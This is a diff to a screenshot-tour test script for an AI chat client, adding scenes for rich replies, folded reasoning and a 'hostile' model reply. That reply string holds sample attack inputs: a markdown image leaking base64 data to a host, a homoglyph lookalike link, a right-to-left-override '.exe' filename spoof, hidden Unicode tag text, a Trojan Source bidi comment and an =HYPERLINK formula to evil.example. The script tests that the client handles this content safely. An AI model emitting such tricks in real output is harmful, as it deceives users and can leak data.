@@ -21,6 +21,21 @@ QUESTION = (
     "would charge me for a 2k-token answer."
 )
 
+HOSTILE = """\
+![A picture](https://pictures.example/x.png?q=c2VjcmV0) and <b>no HTML</b> here.
+
+A [friendly name](https://\u0430\u0440\u0440\u04cf\u0435.com/), a photo\u202egnp.exe,
+some\U000e0073\U000e0065 hidden words, and \x1b[31mred\x1b[0m.
+
+```c
+if (user /*\u202e } \u2066if (is_admin)\u2069 \u2066 begin admins only */) {
+```
+
+| a | b |
+|---|--:|
+| =HYPERLINK("https://evil.example") | `a\u200bb` |
+"""
+
 
 class Tour:
     """One walk through the states, in one theme and scale."""
@@ -34,7 +49,8 @@ class Tour:
 
     def walk(self) -> None:
         """Visit every state."""
-        for scene in (self.welcome, self.demo, self.chat, self.offline, self.many, self.dialogs):
+        scenes = (self.welcome, self.demo, self.rich, self.thought, self.hostile, self.chat)
+        for scene in (*scenes, self.offline, self.many, self.dialogs):
             scene()
         self.server.stop()
 
@@ -56,6 +72,56 @@ class Tour:
             self._take(program, "narrow")
             program.trigger("find_model")
             self._take(program, "narrow-models")
+
+    def rich(self) -> None:
+        with self._start({}, "--demo") as program:
+            program.ready()
+            program.use("demo/tour")
+            program.say("What can a reply hold?")
+            program.reply()
+            self._take(program, "tables")
+            for _ in range(3):
+                program.key("Alt+Up")
+            self._take(program, "ringed")
+            program.key("Escape")
+            program.key("PageDown", "PageDown", "Ctrl+J")
+            self._take(program, "maths")
+            program.key("Ctrl+F")
+            program.type("number")
+            self._take(program, "find")
+            program.key("Escape")
+            program.trigger("select_all")
+            self._take(program, "selected")
+            program.key("Escape")
+            program.arrange(1280, 3300)
+            self._take(program, "whole")
+            program.arrange(620, 3900)
+            self._take(program, "whole-narrow")
+
+    def thought(self) -> None:
+        with self._start({}, "--demo") as program:
+            program.ready()
+            program.use("demo/thinker")
+            program.say("What is the largest prime below 100?")
+            program.reply()
+            self._take(program, "folded")
+            program.key("Alt+Up")
+            program.key("Space")
+            self._take(program, "unfolded")
+
+    def hostile(self) -> None:
+        with self._start(self._account) as program:
+            program.ready()
+            program.use("test/happy")
+            chunk = {
+                "choices": [{"index": 0, "delta": {"content": HOSTILE}, "finish_reason": "stop"}]
+            }
+            self.server.script(f"data: {json.dumps(chunk)}\n\ndata: [DONE]\n\n".encode())
+            program.say("Show me what you hide.")
+            program.reply()
+            self._take(program, "hostile")
+            program.follow("https://xn--80ak6aa92e.com/")
+            self._take(program, "link", dialog=True)
 
     def chat(self) -> None:
         with self._start(self._account) as program:
@@ -122,6 +188,9 @@ class Tour:
             program.ready()
             program.trigger("settings")
             self._take(program, "settings", dialog=True)
+            for page in ("writing", "network", "accounts", "data", "about"):
+                program.key("Down")
+                self._take(program, f"settings-{page}", dialog=True)
             program.key("Escape")
             program.trigger("add_account")
             self._take(program, "account", dialog=True)
@@ -160,6 +229,7 @@ def main() -> int:
         lambda: Tour(folder, "light", "light", "1"),
         lambda: Tour(folder, "dark", "dark", "1"),
         lambda: Tour(folder, "light-200", "light", "2"),
+        lambda: Tour(folder, "dark-200", "dark", "2"),
     ]
     for walk in walks:
         walk().walk()
